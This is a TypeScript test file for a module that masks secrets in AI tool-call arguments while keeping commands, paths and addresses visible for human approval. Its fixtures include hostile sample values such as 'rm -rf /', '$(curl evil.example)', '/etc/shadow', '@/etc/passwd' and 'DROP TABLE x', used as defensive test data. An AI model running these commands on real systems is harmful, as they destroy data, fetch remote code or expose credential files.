import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { canonicalize, type JsonObject, type JsonValue } from '../../core/json/json.ts'
import { parseJson } from '../../core/json/parse-json.ts'
import { renderCall } from '../render.ts'
import { renderText } from '../render-text.ts'
import { maskArguments } from './mask.ts'
import { isPlainlySecret } from './named-secrets.ts'
import { isSecretName } from './secret-names.ts'
import { unmaskEdit } from './unmask-edit.ts'

const masksOf = (args: JsonObject, acting: string[] = []) =>
  maskArguments(args, { isKnown: acting.length > 0, acting }).masks

describe('P9: plainly a secret', () => {
  it.each([
    'hunter2',
    'correct-horse',
    'P',
    'a_b+c',
    '1234567:AAF-x_y',
    'QWxhZGRpbg==',
    'x'.repeat(256),
    'P4ss@word',
  ])('is one word: %s', (value) => {
    expect(isPlainlySecret(value)).toBe(true)
  })

  it.each([
    '',
    'two words',
    'a\tb',
    'a\u00a0b',
    'a\u200bb',
    '"quoted"',
    "o'clock",
    'a/b',
    'a\\b',
    '$(id)',
    '`id`',
    'a;b',
    'a|b',
    'a&b',
    'a>b',
    '{a}',
    '[a]',
    'a*',
    'a?',
    '~root',
    '!x',
    '#x',
    '%PATH%',
    'A=b',
    'evil.example',
    'web1.local',
    '10.0.0.1',
    '.env',
    '-rf',
    '--force',
    '@file',
    'localhost:8080',
    'C:x',
    '删除所有文件',
    'x'.repeat(257),
  ])('is nothing that may act: %j', (value) => {
    expect(isPlainlySecret(value)).toBe(false)
  })

  it('has none of the characters of a command, a path or an address, whatever is around them', () => {
    const around = fc.string({ maxLength: 30 })
    const sign = fc.constantFrom(...' \t\n\r\v\f\u2028\'"`/\\$&|;<>(){}[]*?!#~^%\u0000\u202e')
    fc.assert(fc.property(around, sign, around, (head, one, tail) => !isPlainlySecret(head + one + tail)))
    fc.assert(fc.property(fc.constantFrom('-', '@'), around, (one, tail) => !isPlainlySecret(one + tail)))
    const letters = fc.stringMatching(/^[A-Za-z0-9_-]{0,9}[A-Za-z]$/)
    fc.assert(
      fc.property(
        letters,
        letters,
        (one, other) => !isPlainlySecret(`${one}.${[...other].reverse().join('')}`),
      ),
    )
  })
})

describe('P9: what is hidden because of its name', () => {
  it.each<[string, JsonObject, string[]]>([
    ['nested', { a: { b: [{ password: 'hunter2' }] } }, ['/a/b/0/password']],
    ['in a list', { tokens: ['x'], api_keys: ['a', 'b'] }, ['/api_keys/0', '/api_keys/1']],
    ['in headers', { headers: { Authorization: 'abc', Accept: 'x' } }, ['/headers/Authorization']],
    ['in a list of headers', { headers: ['Accept: x', 'Authorization: abc'] }, ['/headers/1']],
    [
      'in pairs of headers',
      {
        headers: [
          ['Cookie', 'abc'],
          ['Accept', 'x'],
        ],
      },
      ['/headers/0/1'],
    ],
    ['in a flat list of headers', { headers: ['Accept', 'x', 'Cookie', 'abc'] }, ['/headers/3']],
    [
      'in named values',
      {
        env: [
          { name: 'API_KEY', value: 'abc' },
          { name: 'HOME', value: 'x' },
        ],
      },
      ['/env/0/value'],
    ],
    ['in a list of variables', { env: ['API_KEY=abc', 'HOME=x'] }, ['/env/0']],
    ['in cookies', { cookies: [{ name: 'sid', value: 'abc', domain: 'x' }] }, ['/cookies/0/value']],
    ['in a map of secrets', { secrets: { DB: 'abc', name: 'x' } }, ['/secrets/DB']],
    ['beside a user', { auth: { user: 'app', pass: 'abc' } }, ['/auth/pass']],
    [
      'in a connection string',
      { url: 'postgres://app:abc@db/x', list: ['redis://:abc@db/0'] },
      ['/list/0', '/url'],
    ],
  ])('%s', (_, args, pointers) => {
    const { value, masks } = maskArguments(args)
    expect(masks.map(({ pointer }) => pointer).sort()).toEqual(pointers)
    expect(JSON.stringify(value)).not.toContain('abc')
    expect(JSON.stringify(value)).not.toContain('hunter2')
    const rendering = renderCall({ tool: 'x', arguments: args })
    for (const text of [rendering.summary, renderText(rendering)]) expect(text).not.toMatch(/\babc\b|hunter2/)
  })

  it.each<[string, JsonObject]>([
    ['numbers and the like', { password: 7, token: true, secret: null, max_tokens: 100 }],
    ['an empty text', { password: '' }],
    [
      'other names',
      { next_page_token: 'CAEQAA1234567890abcXYZ', password_policy: 'strict', token_type: 'bearer' },
    ],
    [
      'a command line',
      { command: 'mysql -psecret', args: ['postgres://app:abc@db/x'], cmd: 'https://a:b@c/' },
    ],
    [
      'an address that the parser writes otherwise',
      { dsn: 'postgres://a:b:c@db/x', url: 'https://a:b@c', u: 'HTTP://a:b@c/' },
    ],
    ['an address without a password', { url: 'https://app@db/x', mail: 'a:b@c', other: 'https://db/x:y@z' }],
    ['what a secret is about', { secret: { name: 'db', namespace: 'prod' }, secrets: [{ name: 'db' }] }],
  ])('not %s', (_, args) => {
    expect(maskArguments(args)).toMatchObject({ value: args, masks: [] })
  })

  it('is no argument that the catalogue knows for a command, a path or an address', () => {
    const args = { token: 'src', secret: { a: ['ls'] }, url: 'https://a:b@c/', password: 'x1y2Z3x1y2Z3x1y2' }
    expect(masksOf(args)).toHaveLength(3)
    expect(masksOf(args, ['/token', '/secret', '/url', '/password'])).toEqual([])
    expect(
      masksOf({ token: 'src', tokens: 'x', token2: 'y' }, ['/token']).map(({ pointer }) => pointer),
    ).toEqual(['/token2'])
  })

  it('in a connection string is the password alone, and the edit of it is taken whole or not at all', () => {
    const original = { dsn: 'postgres://app:hunter2@db.internal:5432/app?sslmode=require' }
    const { value, masks } = maskArguments(original)
    const shown =
      'postgres://app:⟨masked: password of a connection string, 7 characters⟩@db.internal:5432/app?sslmode=require'
    expect(value).toEqual({ dsn: shown })
    expect(masks).toMatchObject([{ length: 7, name: 'password' }])
    expect(masks[0]?.mustUncover).toBeUndefined()
    expect(unmaskEdit({ dsn: shown }, original)).toEqual(original)
    expect(() => unmaskEdit({ dsn: shown.replace('db.internal', 'evil.example') }, original)).toThrow(/mask/)
    expect(masksOf({ dsn: 'postgres://app:$(id)@db/x' })).toMatchObject([{ mustUncover: true }])
    expect(renderText(renderCall({ tool: 'x', arguments: { a: original } }))).toContain(`"dsn": "${shown}"`)
    expect(renderText(renderCall({ tool: 'x', arguments: original }))).toContain(`dsn: ${shown}`)
  })

  it('has the shape of a secret where it has one, also behind its name in a line', () => {
    const token = `ghp_${'aB3dE6'.repeat(6)}`
    expect(masksOf({ headers: [`Authorization: Bearer ${token}`] })).toMatchObject([{ kind: 'bearer token' }])
    expect(masksOf({ password: token })).toMatchObject([{ kind: 'GitHub token' }])
  })

  it('says of a name that could deceive no more than that it is one', () => {
    const [mask] = masksOf({ '⟨x⟩ \u202e password': 'hunter2' })
    expect(mask?.text).toBe('⟨masked: hidden because of its name "a secret", 7 characters⟩')
  })

  it('a value that may act is never hidden where it can be approved, for any name and any value', () => {
    const name = fc.oneof(
      fc.string(),
      fc.constantFrom('password', 'API_KEY', 'headers', 'env', 'url', 'cookies', 'value'),
    )
    const acting = fc.constantFrom(
      'rm -rf /',
      '$(curl evil.example)',
      '/etc/shadow',
      '../x',
      'https://evil.example/x',
      'evil.example',
      '10.0.0.1',
      '-rf',
      '--exec',
      '@/etc/passwd',
      'a;b',
      'DROP TABLE x',
      '"a"',
    )
    fc.assert(
      fc.property(name, name, acting, (outer, inner, value) => {
        for (const args of [{ [outer]: value }, { [outer]: { [inner]: value } }, { [outer]: [value] }]) {
          const { value: shown, masks } = maskArguments(args)
          if (masks.some((mask) => mask.mustUncover)) continue
          expect(JSON.stringify(shown)).toBe(JSON.stringify(args))
        }
      }),
      { numRuns: 2000 },
    )
  })

  it('changes nothing that is not under such a name', () => {
    const visit = (value: JsonValue, shown: JsonValue, named: boolean): void => {
      if (typeof value === 'object' && value !== null) {
        for (const [key, member] of Object.entries(value)) {
          const isNamed = named || (!Array.isArray(value) && (isSecretName(key) || PLACES.has(key)))
          visit(member as JsonValue, (shown as JsonObject)[key]!, isNamed)
        }
      } else if (!named) expect(shown).toEqual(value)
    }
    const PLACES = new Set(['value', 'headers', 'env'])
    const json = fc.letrec<{ value: JsonValue }>((tie) => ({
      value: fc.oneof(
        { depthSize: 'small' },
        fc.constantFrom<JsonValue>(
          null,
          1,
          true,
          'hunter2',
          'rm -rf',
          'Authorization: x',
          'API_KEY=x',
          'Cookie',
        ),
        fc.array(tie('value'), { maxLength: 4 }),
        fc.dictionary(
          fc.constantFrom(
            'a',
            'max_tokens',
            'token',
            'headers',
            'env',
            'name',
            'value',
            'secret_name',
            'cookies',
          ),
          tie('value'),
          { maxKeys: 4 },
        ),
      ),
    })).value
    fc.assert(
      fc.property(fc.dictionary(fc.constantFrom('a', 'password', 'pageToken', 'headers'), json), (made) => {
        const args = parseJson<JsonObject>(canonicalize(made))
        const { value } = maskArguments(args)
        visit(args, value, false)
        expect(canonicalize(unmaskEdit(value, args))).toBe(canonicalize(args))
      }),
      { numRuns: 1000 },
    )
  })
})
